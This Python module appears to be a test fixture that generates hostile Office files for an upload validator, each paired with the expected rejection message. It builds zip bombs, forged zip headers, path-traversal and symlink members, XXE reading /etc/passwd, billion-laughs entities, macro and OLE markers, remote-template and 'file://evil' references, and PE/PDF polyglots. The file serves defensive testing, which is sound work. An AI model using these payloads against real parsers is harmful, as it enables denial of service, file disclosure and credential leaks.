"""Office files that no honest program writes: what each tries, and what is said to it.

Every trick is made from a sound file of both kinds that can be uploaded.
"""

import io
import itertools
import struct
import zipfile
from collections.abc import Callable, Mapping

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_MODES = ("Internal", "External")
_SMALL = 60_000_000  # bytes of zeros, which pack into 60 kB

Parts = dict[str, str | bytes]
Made = tuple[str, str | bytes]


def rels(*links: tuple[str, str, bool]) -> str:
    """Relationships: last word of the type, target, whether it stands outside."""
    lines = "".join(
        f'<Relationship Id="r{number}" Type="{_R}/{kind}" Target="{target}"'
        f' TargetMode="{_MODES[outside]}"/>'
        for number, (kind, target, outside) in enumerate(links, 1)
    )
    return f'<Relationships xmlns="{_RELS}">{lines}</Relationships>'


def sound(suffix: str, cell: str = "甲") -> Parts:
    """The parts of a small file with one word in it; ``cell`` stands for it, as XML."""
    types = f'<Types xmlns="{_TYPES}"/>'
    if suffix == ".docx":
        body = f"<w:body><w:p><w:r><w:t>{cell}</w:t></w:r></w:p></w:body>"
        return {
            "[Content_Types].xml": types,
            "_rels/.rels": rels(("officeDocument", "word/document.xml", False)),
            "word/document.xml": f'<w:document xmlns:w="{_W}">{body}</w:document>',
        }
    row = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{cell}</t></is></c></row>'
    return {
        "[Content_Types].xml": types,
        "_rels/.rels": rels(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": f'<workbook xmlns="{_S}" xmlns:r="{_R}"><sheets>'
        '<sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": rels(("worksheet", "worksheets/sheet1.xml", False)),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_S}"><sheetData>{row}</sheetData>'
        "</worksheet>",
    }


def packed(parts: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def main_part(suffix: str) -> str:
    return "word/document.xml" if suffix == ".docx" else "xl/worksheets/sheet1.xml"


# --- too much (attack 39) ------------------------------------------------------------------------


def bomb(suffix: str) -> bytes:
    return packed(sound(suffix) | {"media/a.xml": b"\0" * _SMALL})


def large(suffix: str) -> bytes:
    """One part over the limit for a part, packed so badly that the ratio says nothing."""
    parts = {**sound(suffix), "media/a.xml": b"\0" * (51 * 2**20), "media/b.bin": b""}
    data = packed(parts)
    noise = struct.pack("<I", 7) * 100_000  # stored: it brings the ratio down
    target = io.BytesIO(data)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("media/noise.bin", noise, zipfile.ZIP_STORED)
    return target.getvalue()


def lying(suffix: str) -> bytes:
    """A part whose headers promise 10 bytes and whose data unpacks to 60 MB."""
    data = packed(sound(suffix) | {main_part(suffix): b" " * _SMALL})
    return data.replace(struct.pack("<I", _SMALL), struct.pack("<I", 10))


def crowd(suffix: str, *, said: int | None = None) -> bytes:
    """100,000 members; ``said`` is the count that the end of the file tells."""
    head, count = packed(sound(suffix)), 100_000
    at = head.rfind(b"PK\x05\x06")
    own, _, start = struct.unpack_from("<10xHII", head, at)
    # All of them are one and the same part: what counts is how many the directory lists.
    entries = (
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *[0] * 9, 3, *[0] * 6) + bytes(name)
        for name in itertools.islice(itertools.product(range(48, 95), repeat=3), count)
    )
    directory = head[start:at] + b"".join(entries)
    told = (own + count) % 2**16 if said is None else said
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, told, told, len(directory), start, 0)
    return head[:start] + directory + end


# --- members outside (attack 40) -----------------------------------------------------------------


def outside(name: str) -> Callable[[str], bytes]:
    return lambda suffix: packed(sound(suffix) | {name: b"x"})


def link(suffix: str) -> bytes:
    target = io.BytesIO(packed(sound(suffix)))
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("media/link.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


# --- what XML and Office can do (attack 41) ------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE a [<!ENTITY z "ha">'
    + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 20}">'
        for old, new in zip("zbcdefg", "bcdefga", strict=True)
    )
    + "]>"
)
XXE = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def declared(start: str, encoding: str = "utf-8") -> Callable[[str], bytes]:
    """The words are an entity, which a DOCTYPE at the start explains."""

    def make(suffix: str) -> bytes:
        parts, name = sound(suffix, "&a;"), main_part(suffix)
        return packed(parts | {name: f"{start}{parts[name]!s}".encode(encoding)})

    return make


def with_parts(**parts: str | bytes) -> Callable[[str], bytes]:
    """More parts: FOLDER stands for that of the kind, __ for / and _dot_ for a dot."""

    def make(suffix: str) -> bytes:
        folder = "word" if suffix == ".docx" else "xl"
        return packed(
            sound(suffix)
            | {
                name.replace("__", "/").replace("_dot_", ".").replace("FOLDER", folder): content
                for name, content in parts.items()
            }
        )

    return make


def linked(kind: str, target: str, *, outside: bool) -> Callable[[str], bytes]:
    """A relationship of the main part; where it is inside, its target is there."""

    def make(suffix: str) -> bytes:
        folder, _, file = main_part(suffix).rpartition("/")
        more: Parts = {f"{folder}/_rels/{file}.rels": rels((kind, target, outside))}
        return packed(sound(suffix) | more | ({} if outside else {f"{folder}/{target}": b"x"}))

    return make


def macro_type(suffix: str) -> bytes:
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    types = f'<Types xmlns="{_TYPES}"><Override PartName="/a" ContentType="{kind}"/></Types>'
    return packed(sound(suffix) | {"[Content_Types].xml": types})


# --- two files in one (attack 42) ----------------------------------------------------------------


def pdf_inside(suffix: str) -> bytes:
    """The first member, stored, is where a reader of PDF looks for its header."""
    return packed({"a": b"%PDF-1.7\n", **sound(suffix)}, zipfile.ZIP_STORED)


def program_behind(suffix: str) -> bytes:
    return packed(sound(suffix)) + b"MZ\x90\x00" + b"x" * 100


def zip_in_front(suffix: str) -> bytes:
    return packed({"a.exe": b"MZ\x90"}) + packed(sound(suffix))


def second_end(suffix: str, *, moved: int = 0) -> bytes:
    """An end after zip64, as streaming programs write it; ``moved``, another directory."""
    data = packed(sound(suffix))
    at = data.rfind(b"PK\x05\x06")
    count, length, start = struct.unpack_from("<10xHII", data, at)
    numbers = (44, 45, 45, 0, 0, count, count, length, start + moved)
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", *numbers)
    return data[:at] + record + struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1) + data[at:]


BROKEN, TOO_BIG = "文件打不开", "文件解开后太大"
MACRO, OBJECT, OUTSIDE = "文件带有宏", "文件里嵌有别的程序对象", "文件引用了外面的文件"
LARGE = {
    "bomb": (bomb, TOO_BIG),
    "large part": (large, TOO_BIG),
    "lying size": (lying, BROKEN),
    "100,000 members": (crowd, TOO_BIG),
    "100,000 members, told as 3": (lambda suffix: crowd(suffix, said=3), TOO_BIG),
}
ASTRAY = {
    "above": (outside("../../etc/x"), BROKEN),
    "root": (outside("/etc/x"), BROKEN),
    "backslash": (outside("word\\..\\..\\x"), BROKEN),
    "drive": (outside("C:/x"), BROKEN),
    "link": (link, BROKEN),
}
LIVE = {
    "xxe": (declared(XXE), BROKEN),
    "xxe in UTF-16": (declared(XXE, "utf-16"), BROKEN),
    "laughs": (declared(LAUGHS), BROKEN),
    "macro": (with_parts(FOLDER__vbaProject_dot_bin=b"x"), MACRO),
    "macro under another name": (linked("vbaProject", "a.bin", outside=False), MACRO),
    "macro sheet": (with_parts(xl__macrosheets__sheet1_dot_xml="<a/>"), MACRO),
    "macro by type": (macro_type, MACRO),
    "ole": (with_parts(FOLDER__embeddings__oleObject1_dot_bin=b"x"), OBJECT),
    "ole under another name": (linked("oleObject", "a.png", outside=False), OBJECT),
    "activex": (with_parts(FOLDER__activeX__activeX1_dot_xml="<a/>"), OBJECT),
    "template": (linked("attachedTemplate", "http://x.example/y.dotm", outside=True), OUTSIDE),
    "picture": (linked("image", "file://evil/share/x.png", outside=True), OUTSIDE),
    "external link": (with_parts(xl__externalLinks__externalLink1_dot_xml="<a/>"), OUTSIDE),
    "external link by name": (linked("externalLink", "a.xml", outside=False), OUTSIDE),
}
DOUBLE = {
    "PDF inside": (pdf_inside, BROKEN),
    "program behind": (program_behind, BROKEN),
    "zip in front": (zip_in_front, BROKEN),
    "second end": (lambda suffix: second_end(suffix, moved=1), BROKEN),
    "program": (lambda suffix: b"MZ\x90\x00" + packed(sound(suffix)), "这个文件的内容不是"),
    "cut": (lambda suffix: packed(sound(suffix))[:-30], BROKEN),
    "empty": (lambda suffix: packed(sound(suffix))[:4] + b"\0" * 100, BROKEN),
}
